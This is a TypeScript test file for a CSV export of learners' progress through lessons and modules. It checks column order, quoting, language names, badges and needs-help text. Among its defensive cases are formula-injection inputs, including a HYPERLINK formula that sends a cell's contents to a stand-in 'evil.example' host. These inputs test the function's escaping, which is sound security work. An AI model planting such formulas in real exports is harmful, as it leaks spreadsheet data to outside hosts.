import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { makePathway, withExercises } from '../../../tests/factories/catalog';
import { type CellState, type LessonRecord } from './cell-state';
import type { LearnerRow } from './dashboard';
import { gridCsv } from './grid-csv';
import type { Signal } from './signals';

/** Modules "Module 1" and "Module 2", lessons "Lesson 1.1" … "Lesson 2.3". */
const pathway = makePathway('p', 2, 3);
const NOT_STARTED: CellState[] = Array(6).fill('not_started');

interface RowOptions {
	email?: string;
	states?: CellState[];
	lastActive?: number;
	quizAverage?: number;
	signals?: Signal[];
	language?: string;
}

/** A learner's row with these lesson states; lessons count as done from "completed" on. */
function row(name: string, options: RowOptions = {}): LearnerRow {
	const states = options.states ?? NOT_STARTED;
	const lessons: LessonRecord[] = states.map((state) => ({
		state,
		fails: 0,
		passed: state === 'quiz_passed',
		exercisesPassed: 0,
		exercises: 0,
		doneAt:
			state === 'completed' || state === 'quiz_passed' ? '2026-03-01T09:00:00.000Z' : undefined
	}));
	const modules = pathway.modules.map(
		(_, m) => lessons.slice(m * 3, m * 3 + 3).filter((l) => l.doneAt).length
	);
	return {
		learner: {
			id: name,
			membership: 'm',
			name,
			email: options.email ?? 'learner@example.org',
			joined: '',
			language: options.language
		},
		lessons,
		modules,
		completed: modules.reduce((sum, n) => sum + n, 0),
		quizAverage: options.quizAverage,
		lastActive: options.lastActive,
		signals: options.signals ?? []
	};
}

/** The CSV read back the way a spreadsheet would: a list of rows of cells. */
const parse = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
const column = (table: string[][], heading: string) => {
	const index = table[0]?.indexOf(heading) ?? -1;
	if (index < 0) throw new Error(`no column "${heading}"`);
	return table.slice(1).map((cells) => cells[index]);
};

describe('gridCsv', () => {
	it('has a header of learner facts, then modules, then lessons, in the pathway order', () => {
		expect(parse(gridCsv(pathway, []))).toEqual([
			[
				'Learner',
				'Email',
				'Language',
				'Lessons done',
				'Last active',
				'Quiz average',
				'Needs help',
				'Badge',
				'Module: Module 1',
				'Module: Module 2',
				'Lesson 1.1',
				'Lesson 1.2',
				'Lesson 1.3',
				'Lesson 2.1',
				'Lesson 2.2',
				'Lesson 2.3'
			]
		]);
	});

	it('writes one line per learner, in the order given', () => {
		const table = parse(gridCsv(pathway, [row('Cy'), row('Ana'), row('Ben')]));
		expect(table).toHaveLength(4);
		expect(column(table, 'Learner')).toEqual(['Cy', 'Ana', 'Ben']);
	});

	it.each([
		['a comma', 'Smith, Jo'],
		['a quote', 'Jo "JJ" Smith'],
		['a line break', 'Jo\nSmith'],
		['a Windows line break', 'Jo\r\nSmith'],
		['accents and emoji', 'Zoë Ó Briain 🌱']
	])('gives back a name with %s exactly', (_, name) => {
		const table = parse(gridCsv(pathway, [row(name), row('Next')]));
		expect(column(table, 'Learner')).toEqual([name, 'Next']);
		expect(table[1]).toHaveLength(16);
	});

	it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'])(
		'puts a quote mark before a cell starting like a formula: %j',
		(name) => {
			expect(column(parse(gridCsv(pathway, [row(name)])), 'Learner')).toEqual([`'${name}`]);
		}
	);

	it('escapes a formula that goes on over several lines, with commas and quotes', () => {
		const name = '=HYPERLINK("http://evil.example/?"&A1, "Click")\nJo, "JJ"';
		const table = parse(gridCsv(pathway, [row(name, { email: '=evil@example.org' })]));
		expect(column(table, 'Learner')).toEqual([`'${name}`]);
		expect(column(table, 'Email')).toEqual(["'=evil@example.org"]);
	});

	it('leaves ordinary text alone', () => {
		const table = parse(gridCsv(pathway, [row("Jo O'Neill-Smith", { email: 'jo+1@example.org' })]));
		expect(column(table, 'Learner')).toEqual(["Jo O'Neill-Smith"]);
		expect(column(table, 'Email')).toEqual(['jo+1@example.org']);
	});

	it('names each learner’s language in English, and leaves it empty before their phone has said', () => {
		const table = parse(
			gridCsv(pathway, [row('Ana', { language: 'pl' }), row('Ben', { language: 'ar' }), row('Cy')])
		);
		expect(column(table, 'Language')).toEqual(['Polish', 'Arabic', '']);
	});

	it('writes lessons done overall and per module, out of how many', () => {
		const states: CellState[] = [
			'completed',
			'quiz_passed',
			'opened',
			'not_started',
			'needs_help',
			'completed'
		];
		const table = parse(gridCsv(pathway, [row('Ana', { states }), row('Ben')]));
		expect(column(table, 'Lessons done')).toEqual(['3 of 6', '0 of 6']);
		expect(column(table, 'Module: Module 1')).toEqual(['2 of 3', '0 of 3']);
		expect(column(table, 'Module: Module 2')).toEqual(['1 of 3', '0 of 3']);
	});

	it('labels each lesson with its state in words', () => {
		const states: CellState[] = [
			'not_started',
			'opened',
			'completed',
			'quiz_passed',
			'needs_help',
			'not_started'
		];
		const [, cells] = parse(gridCsv(pathway, [row('Ana', { states })]));
		expect(cells?.slice(10)).toEqual([
			'Not started',
			'Opened',
			'Completed',
			'Quiz passed',
			'Needs help',
			'Not started'
		]);
	});

	it('writes each learner’s badge for the pathway: earned, revoked or none', () => {
		const badges = new Map([
			['Ana', { id: 'b1', user: 'Ana', issued: '2026-03-01T10:00:00Z', revoked: '', reason: '' }],
			[
				'Ben',
				{
					id: 'b2',
					user: 'Ben',
					issued: '2026-03-02T10:00:00Z',
					revoked: '2026-04-02T09:00:00Z',
					reason: 'Issued by mistake'
				}
			]
		]);
		const rows = [row('Ana'), row('Ben'), row('Cy')];
		expect(column(parse(gridCsv(pathway, rows, badges)), 'Badge')).toEqual([
			'Earned 2026-03-01',
			'Revoked 2026-04-02',
			''
		]);
	});

	it('writes last active as an ISO time and the quiz average as a percentage, or blanks', () => {
		const active = Date.parse('2026-03-01T09:30:00.000Z');
		const table = parse(
			gridCsv(pathway, [row('Ana', { lastActive: active, quizAverage: 0.625 }), row('Ben')])
		);
		expect(column(table, 'Last active')).toEqual(['2026-03-01T09:30:00.000Z', '']);
		expect(column(table, 'Quiz average')).toEqual(['63%', '']);
	});

	it('gives each needs-help signal in words, naming lessons by title', () => {
		const signals: Signal[] = [
			{ kind: 'quiz_fails', lessons: [{ id: 'p-m1-l2', fails: 3, best: 0.25 }] },
			{ kind: 'quiet', days: 9 }
		];
		const table = parse(gridCsv(pathway, [row('Ana', { signals }), row('Ben')]));
		expect(column(table, 'Needs help')).toEqual([
			'Failed the quiz on "Lesson 1.2" 3 times (best 25%); No activity for 9 days',
			''
		]);
	});

	it('adds the exercises passed, in all and per lesson that has them, when the pathway has any', () => {
		const practised = withExercises(pathway);
		const learner = row('Ana');
		learner.lessons[0] = {
			...(learner.lessons[0] as LessonRecord),
			exercisesPassed: 1,
			exercises: 2
		};
		const table = parse(gridCsv(practised, [learner]));
		expect(table[0]?.slice(-5)).toEqual([
			'Exercises passed',
			'Exercises: Lesson 1.1',
			'Exercises: Lesson 1.3',
			'Exercises: Lesson 2.1',
			'Exercises: Lesson 2.3'
		]);
		expect(column(table, 'Exercises passed')).toEqual(['1 of 8']);
		expect(column(table, 'Exercises: Lesson 1.1')).toEqual(['1 of 2 passed']);
		expect(column(table, 'Exercises: Lesson 1.3')).toEqual(['0 of 2 passed']);
		expect(parse(gridCsv(pathway, [learner]))[0]).not.toContain('Exercises passed');
	});
});
